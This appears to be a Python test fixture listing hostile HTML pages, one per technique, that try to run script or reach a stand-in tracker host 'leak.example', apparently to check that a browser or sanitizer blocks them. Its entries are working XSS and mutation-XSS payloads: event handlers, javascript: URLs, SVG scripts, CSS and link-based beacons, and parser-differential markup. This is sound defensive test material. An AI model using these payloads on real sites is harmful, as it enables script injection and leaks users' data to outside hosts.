"""Pages that try to reach the world outside, or to run something, one kind each.

Every address is below `leak.example`, which the browser under test takes for the listening tracker;
what runs sets `ran` on every window that it reaches.
"""

from __future__ import annotations

L = "http://leak.example"
RUN = "try{parent.ran=1;top.ran=1}catch(e){};window.ran=1;document.title='ran'"

HOSTILE: dict[str, str] = {
    "script element": f"<script>{RUN};new Image().src='{L}/a'</script>",
    "script from elsewhere": f'<script src="{L}/s.js"></script>',
    "module and import map": f'<script type="module">import "{L}/m.js"</script>',
    "event handler": f'<img src="x" onerror="{RUN}"><body onload="{RUN}">',
    "handler on focus": f'<input autofocus onfocus="{RUN}"><details open ontoggle="{RUN}"><p>x</p></details>',
    "javascript address": f'<a id="out" href="javascript:{RUN}">a</a><iframe src="javascript:{RUN}"></iframe>',
    "image": f'<img src="{L}/a.gif" lowsrc="{L}/l.gif" dynsrc="{L}/d.avi"><input type="image" src="{L}/i.gif">',
    "image set": f'<img srcset="{L}/1x.png 1x, {L}/2x.png 2x"><picture><source srcset="{L}/p.webp"><img></picture>',
    "background": f'<body background="{L}/b.gif"><table background="{L}/t.gif"><tr><td background="{L}/c.gif">x</table>',
    "style with addresses": f"<style>body{{background:url({L}/u.png)}}p::after{{content:url({L}/c.png)}}</style><p>x",
    "style import": f'<style>@import "{L}/i.css";@import url({L}/j.css);</style>',
    "style attribute": f"<p style=\"background:url('{L}/sa.png');list-style:url({L}/li.png)\">x",
    "font": f"<style>@font-face{{font-family:a;src:url({L}/f.woff)}}p{{font-family:a}}</style><p>text",
    "style sheet link": f'<link rel="stylesheet" href="{L}/s.css"><link rel="icon" href="{L}/i.ico">',
    "connection ahead": f'<link rel="preconnect" href="{L}"><link rel="dns-prefetch" href="{L}"><link rel="preload" as="image" href="{L}/p"><link rel="prefetch" href="{L}/q"><link rel="modulepreload" href="{L}/m.js">',
    "base address": f'<base href="{L}/"><img src="relative.gif"><a id="out" href="page.html">a</a>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={L}/r">',
    "frame": f'<iframe src="{L}/f"></iframe><iframe srcdoc="<img src={L}/sd>"></iframe>',
    "frame set": f'<frameset cols="50%,50%"><frame src="{L}/l"><frame src="{L}/r"></frameset>',
    "object and applet": f'<object data="{L}/o.swf"></object><embed src="{L}/e.swf"><applet code="A.class" codebase="{L}/">x</applet>',
    "media": f'<video src="{L}/v.mp4" poster="{L}/p.jpg" autoplay></video><audio src="{L}/a.mp3" autoplay></audio><bgsound src="{L}/b.mid"><track src="{L}/t.vtt">',
    "form": f'<form action="{L}/p" method="post"><button id="out" formaction="{L}/q">send</button></form>',
    "link and ping": f'<a id="out" href="{L}/click" ping="{L}/ping" target="_top">a link</a>',
    "image map": f'<img id="out" usemap="#m" width="99" height="99"><map name="m"><area shape="rect" coords="0,0,99,99" href="{L}/area"></map>',
    "drawing": f'<svg onload="{RUN}"><image href="{L}/si.png"/><use href="{L}/u.svg#a"/><a id="out" xlink:href="{L}/sa"><text y="20">x</text></a><script>{RUN}</script><foreignObject><iframe src="{L}/fo"></iframe></foreignObject></svg>',
    "markup that changes when it is read again": f'<noscript><p title="</noscript><img src={L}/n onerror={RUN}>"></noscript><svg><style><!--</style><img src="{L}/mx" onerror="{RUN}">--></style></svg><math><mtext><table><mglyph><style><img src="{L}/mg" onerror="{RUN}">',
}
"""Kind of attack -> page."""
